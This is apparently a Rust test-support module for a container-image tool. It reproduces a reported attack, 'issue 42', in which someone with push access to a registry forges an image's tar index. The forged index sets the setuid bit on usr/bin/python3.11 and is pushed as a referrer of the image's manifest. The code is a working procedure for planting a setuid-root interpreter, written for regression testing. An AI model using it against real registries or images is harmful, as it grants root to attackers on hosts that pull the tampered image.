//! Forged tar indexes, as an attacker who may push to a repository (or
//! runs a mirror) makes them: issue 42.

use super::registry::Registry;

/// The file the hostile indexes below make setuid root.
pub const PYTHON: &str = "usr/bin/python3.11";

/// The attack of issue 42: the image's true index with one inode changed
/// (`path` made setuid), pushed as a referrer of the manifest `image`
/// (`REPO:TAG` or `REPO@DIGEST` in `reg`) names, as anyone who may push
/// there can. Returns its digest.
pub fn push_setuid_index(reg: &Registry, image: &str, path: &str) -> String {
    use lamina_oci::{open_source, Descriptor, ImageRef, SourceOptions};
    let image: ImageRef = reg.reference(image).parse().unwrap();
    let opts = SourceOptions::default();
    let source = open_source(&image, &opts).unwrap();
    let span = 64 << 10;
    let mut built = lamina_image::tar_index::build(source.as_ref(), span, &|_| {}).unwrap();
    make_setuid(&mut built.metadata, path);
    let img = source.image();
    let subject = Descriptor::new(
        img.manifest_media_type(),
        img.manifest_digest.clone(),
        img.manifest_bytes.len() as u64,
    );
    let (layers, bytes) = lamina_image::index::artifact(&built, None, subject, span).unwrap();
    let ImageRef::Registry(at) = &image else {
        unreachable!("a registry reference")
    };
    let (digest, _) = lamina_image::index::push_referrer(at, &opts, &layers, &bytes).unwrap();
    digest.to_string()
}

/// Sets the setuid bit of `path`'s inode in EROFS `metadata`, in place.
pub fn make_setuid(metadata: &mut [u8], path: &str) {
    use lamina_format::erofs::{format::InodeCompact, Image};
    use zerocopy::FromBytes;
    let (at, mode) = {
        let image = Image::new(metadata).unwrap();
        let mut inode = image.inode(image.root_nid()).unwrap();
        for name in path.split('/') {
            let entry = image.lookup(&inode, name.as_bytes()).unwrap();
            let entry = entry.unwrap_or_else(|| panic!("no {path} in the image"));
            inode = image.inode(entry.nid).unwrap();
        }
        (image.inode_offset(inode.nid).unwrap(), inode.mode)
    };
    // i_mode sits at the same place in compact and extended inodes.
    let (head, _) = InodeCompact::mut_from_prefix(&mut metadata[at as usize..]).unwrap();
    head.i_mode.set(u16::try_from(mode | 0o4000).unwrap());
}

/// The permission bits of `path` (setuid included).
pub fn mode_bits(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::symlink_metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o7777
}
